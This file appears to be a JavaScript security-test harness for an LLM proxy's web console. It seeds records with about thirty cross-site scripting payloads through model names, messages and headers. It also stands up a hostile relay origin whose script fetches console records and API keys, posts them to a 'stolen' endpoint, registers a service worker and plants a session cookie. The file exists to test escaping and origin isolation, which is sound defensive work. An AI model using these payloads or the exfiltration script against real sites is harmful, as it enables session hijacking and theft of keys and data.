// What the console is looked at with: a provider that serves, one that fails and echoes whatever attacks pages, and a
// relay's origin that would like to become the console.
import { spawn } from "node:child_process";
import { existsSync, mkdtempSync, readFileSync, rmSync } from "node:fs";
import { createServer } from "node:http";
import { tmpdir } from "node:os";
import { join, resolve } from "node:path";

export const TOKEN = "admin-of-the-console-4f9c2be8";

// Each would do something where a page took it for markup, an address, a style or a script.
const HARM = "alert(document.domain)";
export const PAYLOADS = [
  `<script>${HARM}</script>`, `"><script>${HARM}</script>`, `'><script>${HARM}</script>`, `</title><script>${HARM}</script>`,
  `</textarea><script>${HARM}</script>`, `<img src=x onerror=${HARM}>`, `"><img src=x onerror=${HARM}>`,
  `<svg onload=${HARM}>`, `<svg><script>${HARM}</script></svg>`, `<svg><animate onbegin=${HARM} attributeName=x>`,
  `<iframe srcdoc="<script>${HARM}</script>">`, `<iframe src="javascript:${HARM}">`, `<a href="javascript:${HARM}">x</a>`,
  `<form><button formaction="javascript:${HARM}">x</button></form>`, `<details open ontoggle=${HARM}>`,
  `<body onload=${HARM}>`, `<input autofocus onfocus=${HARM}>`, `<video><source onerror=${HARM}></video>`,
  `<math><mtext><style><img src=x onerror=${HARM}></style></mtext></math>`, `<meta http-equiv=refresh content="0;url=javascript:${HARM}">`,
  `<link rel=stylesheet href="data:text/css,*{display:none}">`, `<base href="https://evil.example/">`,
  `" autofocus onfocus="${HARM}`, `' onmouseover='${HARM}`, `javascript:${HARM}`, `{{constructor.constructor('${HARM}')()}}`,
  `\${${HARM}}`, `<noscript><p title="</noscript><img src=x onerror=${HARM}>">`, `--><script>${HARM}</script>`,
  `]]><script>${HARM}</script>`, `<template><script>${HARM}</script></template>`, `<style>@import 'https://evil.example/x.css';</style>`,
];

const HOSTILE = `<!doctype html><title>hostile</title><script>
document.title = "ran";
for (const path of ["/console/records", "/console/", "/api/keys"]) {
  fetch(path).then((answer) => answer.text()).then((text) => fetch("/relay/open/stolen?" + text.length, { method: "POST", body: text }));
}
navigator.serviceWorker?.register("/relay/open/worker.js", { scope: "/" });
</script><iframe src="/console/records"></iframe><form method="post" action="/console/sign-out"><button>x</button></form>`;

async function listening(handle) {
  const server = createServer((request, response) => {
    let body = "";
    request.on("data", (piece) => { body += piece; });
    request.on("end", () => handle(request, response, body));
  }).listen(0, "127.0.0.1");
  await new Promise((ok) => server.on("listening", ok));
  return { server, url: `http://127.0.0.1:${server.address().port}` };
}

function json(response, status, value) {
  response.writeHead(status, { "content-type": "application/json" });
  response.end(JSON.stringify(value));
}

// llmio with nothing in it.
async function started(binary) {
  const data = mkdtempSync(join(tmpdir(), "llmio-console-"));
  const child = spawn(resolve(binary), [], {
    env: { PATH: process.env.PATH, LLMIO_TOKEN: TOKEN, LLMIO_DATA: join(data, "data"), LLMIO_LISTEN: "127.0.0.1:0" },
    cwd: data, stdio: ["ignore", "ignore", "inherit"],
  });
  const announced = join(data, "data", "address");
  for (const start = Date.now(); !existsSync(announced); await new Promise((ok) => setTimeout(ok, 20))) {
    if (Date.now() - start > 30_000) throw new Error("llmio does not listen");
  }
  const url = `http://${readFileSync(announced, "utf8").trim()}`;
  const api = async (method, path, body, headers = {}) => {
    const answer = await fetch(url + path, { method, body, headers: { authorization: `Bearer ${TOKEN}`, "content-type": "application/json", ...headers } });
    return { status: answer.status, id: answer.headers.get("x-llmio-record"), text: await answer.text() };
  };
  const end = () => {
    child.kill();
    rmSync(data, { recursive: true, force: true });
  };
  return { url, api, end };
}

// Keys of the providers of a story.
export const API_KEYS = { good: "sk-good-0001", bad: "sk-bad-0002" };

// llmio with nothing in it, and two providers that know one key and call the same model differently.
export async function fresh(binary) {
  const { url, api, end } = await started(binary);
  const models = { alpha: ["qwen/qwen3-coder:free", "x/small"], beta: ["Qwen/Qwen3-Coder", "y/large"] };
  const servers = await Promise.all(Object.values(models).map((names) => listening((request, response, body) => {
    if (request.headers.authorization !== `Bearer ${API_KEYS.good}`) return json(response, 401, { error: { message: "Incorrect API key provided" } });
    if (request.url.endsWith("/models")) return json(response, 200, { data: names.map((id) => ({ id })) });
    return json(response, 200, {
      id: "1", object: "chat.completion", model: JSON.parse(body).model, choices: [{ index: 0, message: { role: "assistant", content: "Hi" }, finish_reason: "stop" }],
      usage: { prompt_tokens: 5, completion_tokens: 1, total_tokens: 6 },
    });
  })));
  const providers = Object.fromEntries(Object.keys(models).map((name, index) => [name, `${servers[index].url}/v1`]));
  const call = (key, model) => api("POST", "/v1/chat/completions", JSON.stringify({ model, messages: [{ role: "user", content: "hello" }] }), { authorization: `Bearer ${key}` });
  const close = () => {
    end();
    for (const { server } of servers) server.close();
  };
  return { url, api, token: TOKEN, providers, call, close };
}

export async function world(binary) {
  const provider = await listening((request, response, body) => {
    const asked = body ? JSON.parse(body) : {};
    if (request.url.startsWith("/failing")) return json(response, 500, { error: { message: asked.messages?.[0]?.content ?? "failing" } });
    json(response, 200, {
      id: "1", object: "chat.completion", model: asked.model, choices: [{ index: 0, message: { role: "assistant", content: "Hi" }, finish_reason: "stop" }],
      usage: { prompt_tokens: 41236, completion_tokens: 612, total_tokens: 41848 },
    });
  });
  const asked = [];
  const origin = await listening((request, response) => {
    asked.push(`${request.method} ${request.url}`);
    const type = request.url.startsWith("/svg") ? "image/svg+xml" : request.url.startsWith("/worker") ? "text/javascript" : "text/html";
    const text = type === "image/svg+xml" ? `<svg xmlns="http://www.w3.org/2000/svg"><script>fetch("/relay/open/stolen")</script></svg>`
      : type === "text/javascript" ? "self.addEventListener('fetch', () => fetch('/relay/open/stolen'))" : HOSTILE;
    response.writeHead(200, {
      "content-type": type, "set-cookie": "llmio_session=stolen; Path=/", "service-worker-allowed": "/", "clear-site-data": '"*"',
      "content-security-policy": "default-src * 'unsafe-inline'",
    });
    response.end(text);
  });
  const { url, api, end } = await started(binary);
  await filled(api, provider.url, origin.url);
  const close = () => {
    end();
    provider.server.close();
    origin.server.close();
  };
  return { url, api, asked, close };
}

// A catalog of some size, and calls of every sort: served at once, after a failover, by nobody, and with attacks.
async function filled(api, provider, origin) {
  const target = (name, model, tier) => ({ provider: name, model, tier });
  const long = "Qwen/Qwen3-Coder-480B-A35B-Instruct-with-a-long-name";
  const catalog = {
    settings: { zone: "Asia/Shanghai", record_bodies: "all" },
    providers: [
      { name: "openrouter", base_url: `${provider}/failing/v1`, local: true, credentials: [{ value: "sk-main-0001", label: "main" }] },
      { name: "modelscope", base_url: `${provider}/v1`, local: true, credentials: [{ value: "sk-ms-0001", label: "ms-1" }, { value: "sk-ms-0002", label: "ms-2" }], quotas: [{ rpd: 2000 }] },
      { name: "home", base_url: `${provider}/v1`, local: true, enabled: false },
    ],
    models: [
      { name: "qwen3-coder", targets: [target("openrouter", "qwen/qwen3-coder:free", 1), target("modelscope", long, 2), target("home", "qwen3:32b", 3)] },
      { name: "assistant", targets: [target("modelscope", "deepseek-ai/DeepSeek-V3.1", 1)] },
      { name: "broken", targets: [target("openrouter", "qwen/qwen3-coder:free", 1)] },
    ],
    relays: [{ name: "open", origin, local: true, public: true }],
  };
  const put = await api("PUT", "/api/catalog", JSON.stringify(catalog));
  if (put.status !== 200) throw new Error(put.text);
  const call = (model, content, headers) => api("POST", "/v1/chat/completions", JSON.stringify({ model, messages: [{ role: "user", content }] }), headers);
  for (const payload of PAYLOADS) {
    await api("POST", "/api/health/reset", "{}");
    await call(payload, payload, { "user-agent": payload, "x-session-id": payload });
    await call("broken", payload, { "user-agent": payload, "x-session-id": payload });
  }
  for (let index = 0; index < 3; index += 1) {
    await api("POST", "/api/health/reset", "{}");
    await call("qwen3-coder", "hello", { "user-agent": "claude-cli/2.1.330 (external, cli)", "x-session-id": "0b2f-91ce" });
    await call("assistant", "hello", { "user-agent": "OpenAI/JS 6.49" });
  }
}
